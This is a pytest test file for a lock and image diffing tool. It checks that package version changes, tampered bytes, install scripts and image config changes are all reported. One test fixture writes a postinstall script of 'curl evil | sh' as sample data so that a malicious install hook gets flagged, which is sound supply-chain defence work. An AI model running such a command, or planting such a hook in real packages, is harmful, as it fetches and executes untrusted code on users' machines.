"""Two locks, two images: what differs is found, whatever it is; what is the same is not mentioned."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from images.difference import Change, FieldChange, image_difference, lock_difference
from images.digests import Digest
from images.key import content_key
from images.lock import Artifact, InstallScript, Lock, ScriptEvent, TreeEntry
from provenance.layout import open_image
from tests.fakes.layouts import make_image
from tests.fakes.locks import (
    AMD64,
    ARM64,
    base_image,
    integrity,
    make_added_lock,
    make_full_lock,
    make_lock,
    npm,
)

CHALK = "npm:chalk@5.6.2"


def with_artifact(lock: Lock, artifact_id: str, **changes: object) -> Lock:
    artifacts = tuple(
        replace(artifact, **changes) if artifact.id == artifact_id else artifact
        for artifact in lock.artifacts
    )
    return replace(lock, artifacts=artifacts)


def with_more(lock: Lock, *more: Artifact) -> Lock:
    return replace(lock, artifacts=(*lock.artifacts, *more))


def test_the_same() -> None:
    assert lock_difference(make_lock(), make_lock()).same


def test_packages_added_removed_changed() -> None:
    lock = make_lock()
    other = with_artifact(lock, CHALK, version="5.6.3", integrity=integrity("chalk 5.6.3"), size=1500)
    without = tuple(artifact for artifact in other.artifacts if artifact.name != "ansi")
    other = replace(other, artifacts=(*without, npm("new", "1.0.0", CHALK)))
    found = lock_difference(lock, other)
    assert [(one.name, one.change) for one in found.packages] == [
        ("ansi", Change.REMOVED),
        ("chalk", Change.CHANGED),
        ("new", Change.ADDED),
    ]
    chalk = found.packages[1]
    assert [artifact.version for artifact in (*chalk.before, *chalk.after)] == ["5.6.2", "5.6.3"]
    assert chalk.other_bytes == ()
    assert found.bytes_after - found.bytes_before == 500


def test_one_of_several_versions() -> None:
    lock = with_more(make_lock(), npm("chalk", "4.0.0", "x"))
    found = lock_difference(lock, with_more(make_lock(), npm("chalk", "4.0.1", "x")))
    (chalk,) = found.packages
    assert [artifact.version for artifact in (*chalk.before, *chalk.after)] == ["4.0.0", "4.0.1"]


def test_the_same_version_with_other_bytes_stands_out() -> None:
    found = lock_difference(make_lock(), with_artifact(make_lock(), CHALK, integrity=integrity("evil")))
    (chalk,) = found.packages
    assert chalk.other_bytes == ("5.6.2",)


def test_scripts() -> None:
    lock = make_lock()
    other = with_artifact(
        lock, "npm:protobufjs@7.6.6", scripts=(InstallScript(ScriptEvent.POSTINSTALL, "curl evil | sh"),)
    )
    (script,) = lock_difference(lock, other).scripts
    assert (script.package, script.event) == ("protobufjs", "postinstall")
    assert (script.before, script.after) == (("node x",), ("curl evil | sh",))
    assert (script.ran, script.runs) == (False, False)
    (script,) = lock_difference(lock, with_artifact(lock, "npm:protobufjs@7.6.6", scripts_run=True)).scripts
    assert (script.before, script.ran, script.runs) == (script.after, False, True)
    (script,) = lock_difference(lock, with_artifact(lock, CHALK, scripts=script_of("x"))).scripts
    assert (script.before, script.after) == ((), ("x",))


def script_of(command: str) -> tuple[InstallScript, ...]:
    return (InstallScript(ScriptEvent.INSTALL, command),)


def test_base_user_node_agents_and_recipe_are_named() -> None:
    lock = make_lock()
    other = replace(
        lock,
        user=replace(lock.user, uid=1001),
        node_version="22.24.0",
        base=replace(lock.base, requested=Digest.of(b"x"), images=(base_image(manifest=Digest.of(b"x")),)),
        agents=(lock.agents[0], replace(lock.agents[1], version="0.74.0")),
        recipe=replace(lock.recipe, renderer=2),
        install_scripts=(),
        platforms=(AMD64, ARM64),
    )
    found = {one.field: (one.before, one.after) for one in lock_difference(lock, other).fields}
    assert found["user"] == ("agent 1000:1000", "agent 1001:1000")
    assert found["agents.pi"] == ("0.73.1", "0.74.0")
    assert set(found) == {
        "base",
        "base.linux/amd64",
        "user",
        "node",
        "agents.pi",
        "recipe.renderer",
        "install-scripts",
        "platforms",
    } | {name for name in found if "places" in name}


def test_an_agent_that_came_or_went() -> None:
    lock = make_lock()
    found = lock_difference(lock, replace(lock, agents=lock.agents[:1]))
    assert FieldChange("agents.pi", "0.73.1", None) in found.fields


def moved_in_the_tree(lock: Lock) -> Lock:
    """Nothing new; two packages lie at each other's place."""
    pi = lock.agents[1]
    (tree,) = pi.trees
    entries = [*tree.entries]
    entries[1], entries[3] = (
        TreeEntry(entries[1].path, entries[3].artifact),
        TreeEntry(entries[3].path, entries[1].artifact),
    )
    return replace(lock, agents=(lock.agents[0], replace(pi, trees=(replace(tree, entries=tuple(entries)),))))


CHANGES: tuple[Callable[[Lock], Lock], ...] = (
    lambda lock: replace(lock, user=replace(lock.user, name="other")),
    lambda lock: replace(lock, user=replace(lock.user, gid=7)),
    lambda lock: replace(lock, recipe=replace(lock.recipe, template=Digest.of(b"x"))),
    lambda lock: replace(lock, recipe=replace(lock.recipe, buildkit="v1")),
    lambda lock: replace(lock, recipe=replace(lock.recipe, epoch=1)),
    lambda lock: replace(lock, recipe=replace(lock.recipe, level=4)),
    lambda lock: replace(lock, recipe=replace(lock.recipe, compression="gzip")),
    lambda lock: replace(lock, base=replace(lock.base, images=(base_image(manifest=Digest.of(b"y")),))),
    lambda lock: with_artifact(lock, CHALK, bins=(("chalk", "x.js"),)),
    lambda lock: with_artifact(lock, CHALK, integrity=integrity("z")),
    lambda lock: with_artifact(lock, "npm:@anthropic-ai/claude-code@2.1.328", scripts_run=False),
    lambda lock: with_artifact(lock, "npm:@anthropic-ai/claude-code@2.1.328", scripts=script_of("x")),
    moved_in_the_tree,
    lambda lock: with_more(lock, npm("more", "1.0.0", CHALK)),
)


@pytest.mark.parametrize("change", CHANGES)
def test_law_whatever_changes_the_key_is_a_difference(change: Callable[[Lock], Lock]) -> None:
    lock = make_lock()
    other = change(lock)
    assert content_key(other, AMD64) != content_key(lock, AMD64)
    assert not lock_difference(lock, other).same
    assert not lock_difference(other, lock).same


@pytest.mark.parametrize("changes", [{"registry": "mirror"}, {"platforms": (ARM64,)}])
def test_where_from_and_for_whom_is_a_difference_too(changes: dict[str, object]) -> None:
    assert not lock_difference(make_lock(), with_artifact(make_lock(), CHALK, **changes)).same


def test_images(tmp_path: Path) -> None:
    layout = tmp_path / "layout"
    settings: dict[str, object] = {"User": "agent", "Env": ["A=1", "B=2", "E="], "Labels": {"l": "1"}}
    old = open_image(layout, make_image(layout, ({"a": b"1"}, {"b": b"1"}), config=settings))
    assert image_difference(old, old).same
    settings = {"User": "root", "Env": ["A=1", "B=3", "C=x=y"], "Cmd": ["sh"], "Labels": {"l": "2"}}
    new = open_image(layout, make_image(layout, ({"a": b"1"}, {"b": b"22"}), config=settings))
    found = image_difference(old, new)
    assert found.fields == (FieldChange("user", "agent", "root"), FieldChange("command", "", "sh"))
    assert found.environment == (
        FieldChange("B", "2", "3"),
        FieldChange("E", "", None),
        FieldChange("C", None, "x=y"),
    )
    assert found.labels == (FieldChange("l", "1", "2"),)
    assert found.kept == (old.manifest.layers[0],)
    assert found.removed == (old.manifest.layers[1],)
    assert found.added == (new.manifest.layers[1],)


def test_servers_and_skills() -> None:
    lock = make_full_lock()
    server, skill = lock.mcp[0], lock.skills[0]
    assert lock_difference(lock, make_full_lock()).same
    found = lock_difference(lock, replace(lock, mcp=(replace(server, args=("/source",), env=()),)))
    assert [(one.field, one.before, one.after) for one in found.fields] == [
        ("mcp.files.args", "/workspace, it's", "/source"),
        ("mcp.files.env", "FILES_TOKEN", ""),
    ]
    file = replace(skill.files[0], executable=True)
    other = replace(lock, skills=(replace(skill, files=(file, *skill.files[1:])),))
    (change,) = lock_difference(lock, other).fields
    assert change.field == "skills.review/SKILL.md"
    assert [text.split()[0] for text in (change.before or "", change.after or "")] == ["0644", "0755"]
    fresh = with_artifact(lock, "skill:review", integrity=integrity("x"))
    (change,) = lock_difference(lock, fresh).fields
    assert change.field == "skills.review"
    assert lock_difference(lock, fresh).packages == ()
    gone = lock_difference(make_lock(), lock)
    assert {one.field.partition(".")[0] for one in gone.fields} == {"mcp", "skills"}


def test_wheels_tools_and_archives() -> None:
    lock = make_added_lock()
    server, tool = lock.pypi_mcp[0], lock.pypi_tools[0]
    root = server.trees[0].root
    assert lock_difference(lock, lock).same
    other = with_artifact(lock, root, integrity=integrity("other"))
    (package,) = lock_difference(lock, other).packages
    assert (package.name, package.other_bytes) == ("mcp-server-look", (lock.artifact(root).filename,))
    # Another wheel of the same version is another file, not other bytes.
    arm = replace(lock.artifact(root), filename="mcp_server_look-2026.10.24-py3-none-linux_aarch64.whl")
    (package,) = lock_difference(lock, with_more(lock, arm)).packages
    assert (package.before, package.after, package.other_bytes) == ((), (arm,), ())
    changes = {
        "toolchain.pypi.quick": replace(lock, pypi_tools=(replace(tool, version="1.0"),)),
        "mcp.look": replace(lock, pypi_mcp=(replace(server, version="1.0"),)),
        "mcp.look.args": replace(lock, pypi_mcp=(replace(server, args=()),)),
        "archives.kit": with_artifact(lock, "archive:kit", integrity=integrity("kit")),
        "archives.kit.bins": with_artifact(lock, "archive:kit", bins=()),
        "python on linux/amd64": replace(
            lock, pypi_mcp=(), pypi_tools=(replace(tool, trees=(replace(tool.trees[0], python="3.12"),)),)
        ),
    }
    for field, changed in changes.items():
        assert field in {one.field for one in lock_difference(lock, changed).fields}, field
    fewer = replace(lock, pypi_tools=(replace(tool, trees=(replace(tool.trees[0], wheels=()),)),))
    (change,) = lock_difference(lock, fewer).fields
    assert change.field == "toolchain.pypi.quick, wheels on linux/amd64"
